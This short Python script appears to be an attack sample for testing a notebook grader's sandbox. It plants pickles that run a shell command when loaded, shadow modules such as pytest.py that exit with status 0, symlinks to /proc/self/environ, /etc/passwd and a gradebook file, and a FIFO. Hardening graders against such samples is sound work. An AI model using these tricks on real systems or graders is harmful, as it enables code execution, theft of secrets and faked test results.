# Tries: leaves links, devices, pickles, and modules with the names of libraries beside the notebook,
#   for a test that reads files or imports.
# Kind: theft
# Stock: no
# Quick: yes

# %% first
import contextlib
import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-litter-pickle",))


for name in ("data.pkl", "parameters.npy", "expected.npz"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
for name in ("numpy.py", "rnn_utils.py", "pytest.py", "helper.py", "__init__.py"):
    with contextlib.suppress(OSError), open(name, "w") as file:
        file.write("raise SystemExit(0)")
for target in ("/proc/self/environ", "/etc/passwd", "/dev/zero", "../../gradebook.db"):
    with contextlib.suppress(OSError):
        os.symlink(target, "link-" + target.replace("/", "-"))
with contextlib.suppress(OSError):
    os.mkfifo("pipe")
